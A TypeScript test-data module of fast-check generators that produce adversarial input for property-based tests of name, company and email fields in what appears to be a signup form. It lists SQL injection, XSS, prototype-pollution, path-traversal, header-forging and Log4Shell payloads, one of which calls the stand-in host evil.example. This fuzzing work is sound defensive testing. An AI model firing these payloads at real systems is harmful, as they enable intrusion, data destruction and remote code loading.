import fc from 'fast-check';

/** Text that tries to break out of a SQL string literal or statement. */
export const SQL_INJECTIONS: readonly string[] = Object.freeze([
  "' OR '1'='1",
  "'; DROP TABLE Prospects; --",
  "Robert'); DROP TABLE Prospects;--",
  '" OR ""="',
  "1; DELETE FROM Prospects WHERE 1=1",
  "' UNION SELECT CountryCode, CountryName FROM Countries --",
  "admin'--",
  "O'Brien",
  "\\'; SELECT pg_sleep(5); --",
  "%' AND 1=1 --",
  '?', '$1', ':name', '@p0',
]);

/** Markup and script that must come back escaped. */
export const HTML_INJECTIONS: readonly string[] = Object.freeze([
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "' onmouseover='alert(1)",
  '</textarea><svg/onload=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '&lt;b&gt;bold&lt;/b&gt;',
  '&amp; &#x3C; &#60;',
  '<!-- x --><![CDATA[y]]>',
  '`${7*7}`',
  '{{constructor.constructor("alert(1)")()}}',
  '<style>body{display:none}</style>',
  '<form action=//evil.example><button>Go</button></form>',
]);

/** Keys that pollute prototypes when an object is merged carelessly. */
export const PROTOTYPE_KEYS: readonly string[] = Object.freeze([
  '__proto__', 'constructor', 'prototype', 'toString', 'valueOf', 'hasOwnProperty',
  '__defineGetter__', '__lookupGetter__', 'isPrototypeOf',
]);

/** Letters from many scripts, combining marks, emoji and invisible characters: all allowed in names. */
export const UNICODE_NAMES: readonly string[] = Object.freeze([
  'Zoë', 'Ærøskøbing', 'Łukasz Żółć', 'Ğüneş', '山田 太郎', 'محمد', 'שָׁלוֹם', 'Ελένη', 'Дмитрий',
  'e\u0301le\u0300ve', '👩‍💻 Coder', '𝔘𝔫𝔦𝔠𝔬𝔡𝔢', 'a\u200Bb', '\u202Eevil', 'ﬁne', 'ǅemal', 'ß', '\uFFFD',
]);

/** Characters the rules refuse inside text: controls, lone surrogates, line and paragraph separators. */
export const FORBIDDEN_CHARACTERS: readonly string[] = Object.freeze([
  '\u0000', '\u0001', '\u0007', '\u0008', '\u000B', '\u001B[31m', '\u007F', '\u0085', '\u009F',
  '\n', '\r\n', '\t', '\u2028', '\u2029', '\uD800', '\uDFFF', '\uDBFF',
]);

/** Whitespace that trimming removes (JavaScript's `trim`). */
export const TRIMMED_WHITESPACE: readonly string[] = Object.freeze([
  ' ', '  ', '\t', '\n', '\r\n', '\u00A0', '\u2003', '\u3000', '\uFEFF', '\u2028', '\u000B\u000C',
]);

/** Odd text from other attack families: format strings, paths, header and log forging, emails. */
export const MISCELLANEOUS: readonly string[] = Object.freeze([
  '%s%s%s%n', '%00', '%2e%2e%2f', '../../etc/passwd', '..\\..\\windows\\win.ini',
  'x\r\nSet-Cookie: session=1', 'ok\nINFO  [signup-web] forged line', '${jndi:ldap://evil.example/a}',
  'eve@example.com', 'mailto:eve@example.com', 'null', 'undefined', 'NaN', 'true', '0', '-1', '[]', '{}',
]);

const wellFormedPieces = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...SQL_INJECTIONS, ...HTML_INJECTIONS, ...PROTOTYPE_KEYS, ...UNICODE_NAMES, ...MISCELLANEOUS) },
  { weight: 3, arbitrary: fc.string({ unit: 'grapheme', minLength: 1, maxLength: 24 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', minLength: 1, maxLength: 16 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary-ascii', minLength: 1, maxLength: 16 }) },
);

/** Padding a person's browser may add around a value. */
export const padding: fc.Arbitrary<string> = fc.oneof(
  { weight: 4, arbitrary: fc.constant('') },
  { weight: 1, arbitrary: fc.constantFrom(...TRIMMED_WHITESPACE) },
);

function padded(text: fc.Arbitrary<string>): fc.Arbitrary<string> {
  return fc.tuple(padding, text, padding).map(([before, value, after]) => `${before}${value}${after}`);
}

/** Exactly `count` code points around the 100/200/254 limits, including astral and combining characters. */
export function textOfLength(minimum: number, maximum: number): fc.Arbitrary<string> {
  return fc.tuple(fc.integer({ min: minimum, max: maximum }), fc.constantFrom('x', 'é', '山', '😀', '\u0301', "'", '<'))
    .map(([count, character]) => (character === '\u0301' ? `e${'\u0301'.repeat(count - 1)}` : character.repeat(count)));
}

const REFUSED_INSIDE = /[\p{Cc}\p{Cs}\u2028\u2029]/u;

/**
 * Text a person might type in a name or company field: mostly acceptable
 * (injection strings, any script, emoji, boundary lengths, padding) and now and
 * then a forbidden character in the middle.
 */
export function personText(maxCodePoints: number): fc.Arbitrary<string> {
  const joined = fc.array(wellFormedPieces, { minLength: 1, maxLength: 3 }).map((parts) => parts.join(' '));
  return fc.oneof(
    { weight: 12, arbitrary: padded(joined.filter((text) => !REFUSED_INSIDE.test(text))) },
    { weight: 1, arbitrary: padded(textOfLength(maxCodePoints - 3, maxCodePoints + 1)) },
    { weight: 1, arbitrary: fc.tuple(joined, fc.constantFrom(...FORBIDDEN_CHARACTERS), joined).map((parts) => parts.join('')) },
  );
}

const LOCAL_PART_CHARACTERS = [..."abcxyzABCXYZ0189!#$%&'*+/=?^_`{|}~-", 'é', 'ü', '山'];

const localPart = fc.array(
  fc.string({ unit: fc.constantFrom(...LOCAL_PART_CHARACTERS), minLength: 1, maxLength: 10 }),
  { minLength: 1, maxLength: 3 },
).map((atoms) => atoms.join('.'));

const domainLabel = fc.oneof(
  { weight: 5, arbitrary: fc.stringMatching(/^[a-z0-9](?:[a-z0-9-]{0,12}[a-z0-9])?$/) },
  { weight: 1, arbitrary: fc.constantFrom('bücher', '例え', 'xn--bcher-kva', 'münchen', 'EXAMPLE') },
);

const topLevelLabel = fc.constantFrom('com', 'org', 'io', 'uk', 'de', 'museum', 'xn--p1ai', 'рф', 'COM');

/**
 * Email addresses: mostly well-formed (unusual but legal local parts, unicode
 * domains, upper case, padding), sometimes broken in a way a person would break
 * one, sometimes any hostile text.
 */
export const emailText: fc.Arbitrary<string> = fc.oneof(
  {
    weight: 28,
    arbitrary: padded(fc.tuple(localPart, fc.array(domainLabel, { minLength: 1, maxLength: 3 }), topLevelLabel)
      .map(([local, labels, top]) => `${local}@${[...labels, top].join('.')}`)),
  },
  {
    weight: 2,
    arbitrary: fc.constantFrom(
      'plainaddress', '@example.com', 'ada@', 'ada@example', 'ada@@example.com', 'ada@example..com', '.ada@example.com',
      'ada.@example.com', 'a..da@example.com', 'ada@-example.com', 'ada@example.c', 'ada lovelace@example.com',
      '"ada"@example.com', 'ada@example.com<script>', '<ada@example.com>', 'ada@example.com\r\nBcc: eve@example.com',
      `${'a'.repeat(65)}@example.com`, `ada@${'a'.repeat(64)}.com`, `${'a'.repeat(64)}@${'b'.repeat(60)}.${'c'.repeat(60)}.${'d'.repeat(60)}.${'e'.repeat(60)}.com`,
      "x' OR '1'='1@example.com", '${jndi:ldap://x}@example.com', 'ada@exa_mple.com',
    ),
  },
  { weight: 1, arbitrary: personText(100) },
);

/**
 * Any string at all, biased to the adversarial: empty, blank, huge, controls,
 * lone surrogates, injections, emails, random code points.
 */
export const hostileText: fc.Arbitrary<string> = fc.oneof(
  { weight: 4, arbitrary: personText(100) },
  { weight: 1, arbitrary: fc.constantFrom('', ...TRIMMED_WHITESPACE, ...FORBIDDEN_CHARACTERS) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 64 }) },
  { weight: 1, arbitrary: fc.tuple(fc.integer({ min: 255, max: 6000 }), fc.constantFrom('A', 'ñ', '😀', '<', '%'))
    .map(([count, character]) => character.repeat(count)) },
  { weight: 1, arbitrary: emailText },
);

/** The string with every lone surrogate replaced by U+FFFD, as a browser's form encoding does. */
export function toWellFormed(text: string): string {
  return text.replace(/[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?<![\uD800-\uDBFF])[\uDC00-\uDFFF]/g, '\uFFFD');
}
